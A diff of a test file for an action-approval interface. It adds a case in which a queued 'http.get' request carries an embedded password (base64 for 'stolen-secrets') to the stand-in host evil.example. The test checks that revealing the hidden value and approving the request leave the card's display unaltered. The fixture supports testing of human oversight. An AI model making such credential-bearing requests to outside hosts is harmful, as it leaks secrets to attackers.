@@ -179,4 +179,15 @@ describe('real use 4: a page that is translated', () => {
     await until(() => desk.stateOf(id) === 'approved', 'the approval');
     expect(read(card)).to.not.match(altered);
   });
+
+  it('real use 4: is not disturbed by a password that a person has asked to see', async () => {
+    const id = desk.ask({ action: 'http.get', params: { url: 'https://u:c3RvbGVuLXNlY3JldHM@evil.example/' } });
+    await desk.open();
+    const card = await desk.card('http');
+    await desk.click(desk.button(card, 'Show 1 hidden value')!);
+    await until(() => read(card).includes('"c3RvbGVuLXNlY3JldHM"'), 'the password');
+    await desk.press(card, 'Approve');
+    await until(() => desk.stateOf(id) === 'approved', 'the approval');
+    expect(read(card)).to.not.match(altered);
+  });
 });
